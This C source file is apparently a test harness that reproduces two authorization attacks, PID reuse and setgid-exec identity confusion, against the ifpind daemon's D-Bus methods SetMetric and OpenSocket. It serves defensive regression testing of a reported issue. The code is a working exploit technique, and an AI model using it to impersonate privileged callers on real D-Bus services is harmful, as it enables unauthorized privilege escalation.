/* dbus_attack MODE ARG CALL...: the two attacks of issue #15, item 1, on ifpind's D-Bus API. It
 * connects to the system bus ($DBUS_SYSTEM_BUS_ADDRESS) with libdbus (which, unlike sd-bus, may be
 * used after fork()), forks, and lets the child make the calls over the parent's connection while the
 * parent's pid no longer says who called:
 *
 *   pid-reuse GOFILE     the parent prints "parent-pid PID" and exits; the child waits for GOFILE
 *                        (by then the test has a process of an admin-group user at PID) and calls
 *   setgid-exec PROGRAM  the parent execs PROGRAM (a setgid copy of sleep: its egid becomes the admin
 *                        group in /proc/PID/status); the child waits until it has, and calls
 *
 * CALL is "SetMetric ROLE METRIC" or "OpenSocket ROLE" (three words or two, one after the other on
 * the command line). For each the child prints one line: "METHOD ok" (OpenSocket: "ok DEVICE", the
 * interface the socket is bound to) or "METHOD ERROR.NAME: message", then "done". */
#include <dbus/dbus.h>
#include <errno.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void pause_ms(int ms)
{
    struct timespec tick = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&tick, NULL);
}

static void report(const char *method, DBusMessage *reply, DBusError *error)
{
    if (!reply) {
        printf("%s %s: %s\n", method, error->name, error->message);
        dbus_error_free(error);
        return;
    }
    if (strcmp(method, "OpenSocket") == 0) {
        int fd = -1;
        char device[IF_NAMESIZE + 1] = "";
        socklen_t length = sizeof device;
        if (dbus_message_get_args(reply, NULL, DBUS_TYPE_UNIX_FD, &fd, DBUS_TYPE_INVALID) && fd >= 0)
            getsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device, &length);
        printf("%s ok %s\n", method, device);
    } else {
        printf("%s ok\n", method);
    }
    dbus_message_unref(reply);
}

static void call(DBusConnection *bus, char **words, int count)
{
    for (int i = 0; i < count;) {
        const char *method = words[i], *role = words[i + 1];
        DBusMessage *message;
        if (strcmp(method, "SetMetric") == 0) {
            char path[128];
            snprintf(path, sizeof path, "/org/ifpin1/role/%s", role);
            message = dbus_message_new_method_call("org.ifpin1", path, "org.ifpin1.Role", "SetMetric");
            dbus_uint32_t metric = (dbus_uint32_t)strtoul(words[i + 2], NULL, 10);
            dbus_message_append_args(message, DBUS_TYPE_UINT32, &metric, DBUS_TYPE_INVALID);
            i += 3;
        } else {
            message = dbus_message_new_method_call("org.ifpin1", "/org/ifpin1", "org.ifpin1.Manager", "OpenSocket");
            dbus_int32_t family = 2, type = 2, protocol = 0;
            dbus_message_append_args(message, DBUS_TYPE_STRING, &role, DBUS_TYPE_INT32, &family, DBUS_TYPE_INT32, &type,
                                     DBUS_TYPE_INT32, &protocol, DBUS_TYPE_INVALID);
            i += 2;
        }
        DBusError error;
        dbus_error_init(&error);
        DBusMessage *reply = dbus_connection_send_with_reply_and_block(bus, message, 20000, &error);
        dbus_message_unref(message);
        report(method, reply, &error);
    }
    printf("done\n");
    fflush(stdout);
}

/* The effective gid in /proc/PID/status, or -1. */
static long egid_of(pid_t pid)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
    FILE *status = fopen(path, "r");
    long egid = -1;
    while (status && fgets(line, sizeof line, status))
        if (strncmp(line, "Gid:", 4) == 0) {
            long real;
            sscanf(line + 4, "%ld %ld", &real, &egid);
        }
    if (status)
        fclose(status);
    return egid;
}

int main(int argc, char **argv)
{
    if (argc < 5) {
        fprintf(stderr, "usage: dbus_attack pid-reuse GOFILE|setgid-exec PROGRAM CALL...\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    DBusError error;
    dbus_error_init(&error);
    DBusConnection *bus = dbus_bus_get_private(DBUS_BUS_SYSTEM, &error);
    if (!bus) {
        printf("cannot connect: %s\n", error.message);
        return 1;
    }
    pid_t parent = getpid();
    printf("connected as %s from pid %d\n", dbus_bus_get_unique_name(bus), (int)parent);
    pid_t child = fork();
    if (child < 0)
        return 1;
    if (strcmp(argv[1], "pid-reuse") == 0) {
        if (child) {
            printf("parent-pid %d\n", (int)parent);
            _exit(0); /* frees the pid the bus recorded; the connection lives on in the child */
        }
        for (int i = 0; i < 3000 && access(argv[2], F_OK) != 0; ++i)
            pause_ms(10);
    } else {
        if (child) {
            execl(argv[2], argv[2], "30", (char *)NULL);
            _exit(127);
        }
        long egid = -1;
        for (int i = 0; i < 500 && (egid = egid_of(parent)) == (long)getegid(); ++i)
            pause_ms(10);
        printf("pid %d has egid %ld now\n", (int)parent, egid);
    }
    call(bus, argv + 3, argc - 3);
    return 0;
}
